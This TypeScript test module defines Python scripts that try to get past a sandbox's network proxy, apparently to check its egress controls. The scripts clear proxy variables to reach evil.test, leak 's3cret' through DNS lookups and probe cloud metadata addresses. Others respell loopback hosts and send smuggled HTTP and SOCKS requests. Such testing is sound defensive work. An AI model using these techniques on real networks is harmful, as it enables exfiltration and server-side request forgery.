import type { Result } from "../stage/index.ts";
import type { Heard } from "../stage/world.ts";

/** What one attack on the door does, how its effect is seen, and how the same act is allowed. */
export interface NetworkAttack {
  /** Of the list of attacks. */
  readonly id: string;
  readonly title: string;
  /** For Python; `say(bytes)` speaks to the proxy, `get(url)` fetches past it, both print what comes back. */
  readonly script: string;
  readonly words?: readonly string[];
  /** Of the tool's caller. */
  readonly environment?: Readonly<Record<string, string>>;
  /** True when the act had its effect. */
  readonly effect: (heard: readonly Heard[], result: Result) => boolean;
  /** Options under which the act must succeed; "outside" runs it without the tool. */
  readonly allowed: readonly string[] | "outside";
}

const NAMES = ["inside", "loop", "mixed", "mapped", "wrapped", "alias-inside", "listed-inside"];

export const allow = (...patterns: string[]): readonly string[] =>
  patterns.flatMap((pattern) => ["--allow-domain", pattern]);
export const domains = (table: string): readonly string[] => [
  "-c",
  'permissions.mine.extends=":isolated"',
  "-c",
  `permissions.mine.network.domains=${table}`,
  "-P",
  "mine",
];

export const PRELUDE = `
import os, socket, struct, subprocess, sys
def talk(s, *parts):
    s.settimeout(1)
    try:
        for part in parts: s.sendall(part)
        while part := s.recv(65536): sys.stdout.write(part.decode("latin1"))
    except OSError: pass
def connect(host, port):
    try: return socket.create_connection((host, port), 2)
    except OSError: return None
def say(*parts):
    s = connect("127.0.0.1", 61128)
    if s: talk(s, *parts); s.close()
def to(host, port, *parts):
    s = connect(host, port)
    if s: talk(s, *parts); s.close()
def get(*urls):
    for url in urls:
        for way in ("", "*"): subprocess.run(["curl", "-gsk", "-m", "3", "--noproxy", way, url])
def tunnel(authority): say(b"CONNECT " + authority + b" HTTP/1.1\\r\\nHost: " + authority + b"\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")
def plain(host): say(b"GET http://" + host + b"/ HTTP/1.1\\r\\nHost: " + host + b"\\r\\nConnection: close\\r\\n\\r\\n")
def socks(name, port):
    say(b"\\x05\\x01\\x00", b"\\x05\\x01\\x00\\x03" + bytes([len(name)]) + name + struct.pack(">H", port), b"GET / HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n")
`;

export const saysHello = (_: readonly Heard[], { stdout }: Result): boolean => stdout.includes("hello from");
export const somebodyHeard = (heard: readonly Heard[]): boolean => heard.length > 0;
/** A question for it, or a connection to where it is. */
const otherReached = (heard: readonly Heard[]): boolean =>
  heard.some(
    (each) =>
      (each.kind === "dns" && each.name !== "good.test" && each.name !== "api.good.test") ||
      (each.kind === "tcp" && each.address !== "93.184.215.14"),
  );
const portReached =
  (...ports: number[]) =>
  (heard: readonly Heard[]): boolean =>
    heard.some((each) => (each.kind === "tcp" || each.kind === "udp") && ports.includes(each.port));

/** Ways to write addresses of the host's own, each a spelling that some resolver or library understands. */
const LOOPBACK = [
  "2130706433 0x7f000001 0x7f.1 0177.0.0.1 127.1 0 127.0.0.1. 017700000001 0.0.0.0 127.0.0.2",
  "[::1] [::] [::ffff:127.0.0.1] [::ffff:7f00:1] [0:0:0:0:0:ffff:7f00:1] [::127.0.0.1] [127.0.0.1]",
  "[64:ff9b::7f00:1] [2002:7f00:1::] [fe80::1%25lo] [::1%25lo] localhost LOCALHOST. foo.localhost",
  "①②⑦.0.0.1 127。0。0。1 good.test@127.0.0.1 127.0.0.1%00.good.test",
].flatMap((line) => line.split(" "));

const list = (texts: readonly string[]): string => `[${texts.map((text) => JSON.stringify(text)).join()}]`;

export const networkAttacks: readonly NetworkAttack[] = [
  {
    id: "N01",
    title: "a program connects without the proxy",
    script: `for place in ("93.184.215.14", 80), ("127.0.0.2", 7000), ("10.1.2.3", 22), ("127.0.0.1", 8080): to(*place, b"GET / HTTP/1.0\\r\\n\\r\\n")`,
    words: allow("other.test", "other.test:22", "other.test:7000", "other.test:8080"),
    effect: somebodyHeard,
    allowed: "outside",
  },
  {
    id: "N02",
    title: "the proxy is switched off by every spelling of NO_PROXY",
    script: `for name in ("NO_PROXY", "no_proxy", "npm_config_noproxy"): os.environ[name] = "*"
for name in list(os.environ):
    if name.lower().endswith("_proxy") and name.lower() != "no_proxy": del os.environ[name]
subprocess.run(["curl", "-s", "http://evil.test/"]); subprocess.run(["wget", "-qO-", "http://evil.test/"])`,
    words: allow("good.test"),
    effect: somebodyHeard,
    allowed: allow("evil.test"),
  },
  {
    id: "N05",
    title: "data leaves in names that are looked up",
    script: `
def question(name): return b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\\x00\\x00\\x01\\x00\\x01"
try: socket.getaddrinfo("s3cret.wild.test", 80)
except OSError: pass
for server in ("127.0.0.1", "127.0.0.53", "93.184.215.14", "10.1.2.3"):
    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question(b"s3cret.wild.test"), (server, 53))
    except OSError: pass
    to(server, 53, b"\\x00\\x22" + question(b"s3cret.wild.test"))
subprocess.run(["getent", "hosts", "s3cret.wild.test"])`,
    words: allow("good.test", "good.test:53"),
    effect: somebodyHeard,
    allowed: "outside",
  },
  {
    id: "N05b",
    title: "data leaves in names below an allowed domain that are only looked up",
    script: `for n in range(50):
    try: socket.getaddrinfo(f"s3cret{n}.wild.test", 80)
    except OSError: pass`,
    words: allow("*.wild.test"),
    effect: somebodyHeard,
    allowed: "outside",
  },
  {
    id: "N06",
    title: "the proxy looks up a name before it refuses it",
    script: `tunnel(b"s3cret.wild.test:443"); tunnel(b"s3cret.wild.test:80"); plain(b"s3cret.wild.test"); socks(b"s3cret.wild.test", 80)`,
    words: allow("good.test"),
    effect: somebodyHeard,
    allowed: allow("*.wild.test"),
  },
  {
    id: "N07",
    title: "DNS over TCP, TLS and HTTPS",
    script: `for port in (53, 853): to("93.184.215.14", port, b"x")
get("https://evil.test/dns-query?dns=x")`,
    words: allow("good.test", "good.test:853", "good.test:53"),
    effect: somebodyHeard,
    allowed: "outside",
  },
  {
    id: "N09-N11",
    title: "a denied or unnamed host is spelled otherwise",
    script: `hosts = ["api.good.test", "API.Good.Test", "api.good.test.", "api.good.test..", ".api.good.test", "api%2egood.test", "api.good.test%00", "ａpi.good.test", "api。good.test", "api.good.test:80", "api.good.test:080"]
get(*[f"http://{host}/" for host in hosts])
for host in hosts: plain(host.encode()); tunnel(host.encode() + b":443"); socks(host.encode(), 80)`,
    words: [...allow("**.good.test"), "--deny-domain", "api.good.test"],
    effect: (heard, result) => heard.some((each) => each.kind === "tcp") || saysHello(heard, result),
    allowed: allow("**.good.test"),
  },
  {
    id: "N14-N19",
    title: "the host's loopback under other spellings",
    script: `for host in ${list([...LOOPBACK, "127.0.0.1"])}:
    get(f"http://{host}:8080/")
    authority = f"{host}:8080".encode()
    plain(authority); tunnel(authority); socks(host.strip("[]").encode(), 8080)`,
    words: allow("good.test:8080", "**.good.test:8080", "0.0.0.0/0:8080", "::/0"),
    effect: somebodyHeard,
    allowed: ["--host-port", "8080"],
  },
  {
    id: "N17, N36",
    title: "the metadata service, by every address and name of it",
    script: `get("http://169.254.169.254/", "http://[::ffff:169.254.169.254]/", "http://[64:ff9b::a9fe:a9fe]/", "http://[2002:a9fe:a9fe::]/", "http://100.100.100.200/", "http://[fd00:ec2::254]/", "http://metadata.google.internal/", "http://cloud.test/", "http://2852039166/", "http://0xa9fea9fe/")
for host in (b"169.254.169.254", b"metadata.google.internal", b"cloud.test"): socks(host, 80); tunnel(host + b":80")`,
    words: allow("0.0.0.0/0", "::/0", "**.google.internal", "cloud.test"),
    effect: (heard, result) => heard.some((each) => each.kind === "tcp") || saysHello(heard, result),
    allowed: allow("169.254.169.254"),
  },
  {
    id: "N22",
    title: "a SOCKS name that reads differently further on",
    script: `for name in (b"other.test\\0.good.test", b"other.test\\r\\n.good.test", b"other.test .good.test", b"other.test/.good.test", b"x@other.test", b"good.test@other.test", b"other.test#.good.test", b"other.test%00.good.test", b"[93.184.215.15]", b"93.184.215.15", b"", b"other.test"):
    socks(name, 80); socks(name, 443)`,
    words: allow("**.good.test"),
    effect: otherReached,
    allowed: allow("**.good.test", "other.test"),
  },
  {
    id: "N23, N24",
    title: "request lines and headers that read as two requests",
    script: `for line in (b"CONNECT good.test:443@other.test:443 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", b"CONNECT good.test:443 other.test:443 HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n", b"GET http://good.test@other.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", b"GET http://good.test\\\\@other.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", b"GET http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nHost: other.test\\r\\n\\r\\n", b"GET http://good.test/ HTTP/1.1\\nHost: good.test\\n\\nGET http://other.test/ HTTP/1.1\\nHost: other.test\\n\\n", b"POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://other.test/ HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n", b"GET http://good.test/ HTTP/1.1\\r\\nHost : other.test\\r\\n\\r\\n", b"GET http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n X: folded\\r\\n\\r\\n", b"GET http://other.test/ HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n"): say(line)`,
    words: allow("good.test"),
    effect: (heard) => otherReached(heard) || heard.some((each) => each.kind === "http" && each.host !== "good.test"),
    allowed: allow("good.test", "other.test"),
  },
  {
    id: "N27",
    title: "a tunnel to an address instead of a name",
    script: `tunnel(b"93.184.215.14:443"); tunnel(b"93.184.215.14:80"); get("https://93.184.215.14/", "http://93.184.215.14/"); socks(b"93.184.215.14", 80)`,
    words: allow("good.test"),
    effect: somebodyHeard,
    allowed: allow("93.184.215.14"),
  },
  {
    id: "N31",
    title: "a second request rides behind an allowed one",
    script: `one, two = b"GET http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", b"GET http://other.test/ HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n"
say(one + two); say(one, two)
to("good.test", 80, b"GET / HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n")`,
    words: allow("good.test"),
    effect: (heard) => heard.some((each) => each.kind === "http" && each.host === "other.test"),
    allowed: allow("good.test", "other.test"),
  },
  {
    id: "N32",
    title: "the target and the Host line name two hosts",
    script: `say(b"GET http://good.test/ HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n"); say(b"GET http://other.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n")
to("good.test", 80, b"GET http://other.test/ HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n"); plain(b"other.test")`,
    words: allow("good.test"),
    effect: (heard) => heard.some((each) => each.kind === "http"),
    allowed: allow("good.test", "other.test"),
  },
  {
    id: "N33",
    title: "HTTP/2 without TLS hides whom a request is for",
    script: `to("good.test", 8080, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`,
    words: allow("good.test:8080"),
    effect: (heard) => heard.some((each) => each.kind === "closed" && each.received > 0),
    allowed: domains('{ "good.test:8080" = { access = "allow", sni = "any" } }'),
  },
  {
    id: "N50",
    title: "names that lead to private addresses",
    script: `get(*[f"http://{name}.test/" for name in ${list(NAMES)}])`,
    words: allow(...NAMES.map((name) => `${name}.test`)),
    effect: (heard, result) => heard.some((each) => each.kind === "tcp") || saysHello(heard, result),
    allowed: domains('{ "inside.test" = { access = "allow", resolve_to = ["10.1.2.0/24"] } }'),
  },
  {
    id: "N52",
    title: "datagrams to anybody",
    script: `for host in ("93.184.215.14", "127.0.0.1", "10.1.2.3"):
    for port in (123, 5353, 9999):
        try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"s3cret", (host, port))
        except OSError: pass
# Nobody answers; the servers have a moment to hear it.
subprocess.run(["sleep", "0.4"])`,
    words: allow("good.test:9999", "0.0.0.0/0", "good.test:123"),
    effect: portReached(123, 5353, 9999),
    allowed: "outside",
  },
];
